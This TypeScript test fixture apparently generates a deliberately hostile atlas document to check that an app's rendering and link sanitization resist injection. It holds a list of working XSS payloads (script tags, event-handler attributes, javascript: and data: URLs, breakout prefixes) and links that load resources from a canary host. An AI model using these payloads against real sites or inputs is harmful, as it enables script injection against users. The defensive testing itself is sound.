/**
 * A valid atlas full of injection attempts: more than a hundred pieces of markup, in every field of
 * text, in keys, in the addresses of its sources; and beside its rows broken ones, whose ids, words and dates are such too.
 */
import { safeHref } from '../../src/atlas/link.ts'
import { fixtureJson } from './fixture-atlas.ts'

/** A host to which no request may go. */
export const CANARY = 'canary.invalid'

const RUN = 'window.__xss=1'

/** Markup that runs or loads something as soon as it is markup. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//${CANARY}/s.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=https://${CANARY}/i.png>`,
  `<img srcset="https://${CANARY}/i.png 1x">`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="https://${CANARY}/u.svg#a"/></svg>`,
  `<svg><image href="https://${CANARY}/i.svg"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="https://${CANARY}/o"></object>`,
  `<embed src="https://${CANARY}/e">`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src="https://${CANARY}/a.mp3" autoplay></audio>`,
  `<video><source onerror=${RUN} src=x></video>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<form action="https://${CANARY}/f"><button>x</button></form>`,
  `<base href="https://${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY}/m">`,
  `<link rel=stylesheet href="https://${CANARY}/c.css">`,
  `<style>@import "https://${CANARY}/c.css";</style>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<div style="background:url(https://${CANARY}/b.png);position:fixed;inset:0" onpointerover=${RUN}>x</div>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<template><img src=x onerror=${RUN}></template>`,
]

/** What such a piece is put behind, to get out of where it is written. */
const BEFORE: readonly string[] = ['', '">', "'>", '</title></style></textarea></script>', ']]>-->']

/** All of them: each piece behind each way out. */
export const MARKUP: readonly string[] = BEFORE.flatMap((out) => VECTORS.map((vector) => out + vector))

/** Addresses that look like ones to be linked; those that are none stand in broken rows. */
const ADDRESSES: readonly string[] = [
  `https://${CANARY}/"><img/src=x/onerror=${RUN}>`,
  `https://${CANARY}/'onpointerover='${RUN}`,
  `https://раураl.${CANARY}/`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `https://example.org@${CANARY}/`,
  `//${CANARY}/`,
]

/** Fields of text that is free, by their keys. */
const FREE = new Set([
  ...[
    'title',
    'subtitle',
    'published',
    'thesis',
    'text',
    'label',
    'sentence',
    'note',
    'name',
    'adjective',
    'by',
  ],
  ...['alternates', 'unit', 'measure', 'period', 'finding', 'summary', 'group'],
])
/** Of these those that are cut to a line of the map, and those of forty characters at most. */
const SHORT: Readonly<Record<string, number>> = { name: 1, label: 1, unit: 1 }

export interface Hostile {
  readonly json: unknown
  /** How many pieces were put somewhere, and how many different ones. */
  readonly placements: number
  readonly different: number
}

/** The atlas. The same at each call. */
export function hostileAtlas(): Hostile {
  const used: string[] = []
  const next = () => {
    const piece = MARKUP[used.length % MARKUP.length] ?? ''
    used.push(piece)
    return piece
  }
  const words = (key: string): string => Array.from({ length: SHORT[key] ?? 4 }, next).join(' ')
  const spoilt = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return FREE.has(key) ? words(key) : value
    if (Array.isArray(value)) return value.map((item) => spoilt(item, key))
    if (typeof value !== 'object' || value === null) return value
    const entries = Object.entries(value).map(([k, v]): [string, unknown] => [k, spoilt(v, k)])
    // Keys that the format does not know are passed over, whatever they are called.
    return Object.fromEntries([...entries, [next(), next()]])
  }
  const json = spoilt(fixtureJson(), '') as ReturnType<typeof fixtureJson>
  for (const anchor of json.article.anchors ?? []) anchor.label = `<img src=x onerror=${RUN}>`
  const good = ADDRESSES.filter((a) => safeHref(a) !== null)
  json.sources.forEach((source, i) => (source.url = good[i % good.length]))
  json.sources.push(...ADDRESSES.map((url, i) => ({ id: `link${i}`, title: next(), url })))
  const [tie] = json.ties
  const broken = VECTORS.flatMap((piece) => [
    { ...tie, id: piece },
    { ...tie, id: 'x', kind: piece, form: piece },
    { ...tie, id: 'x', from: piece, phases: [{ from: piece, status: piece, basis: piece }] },
  ])
  return {
    json: { ...json, ties: [...json.ties, ...broken] },
    placements: used.length,
    different: new Set(used).size,
  }
}
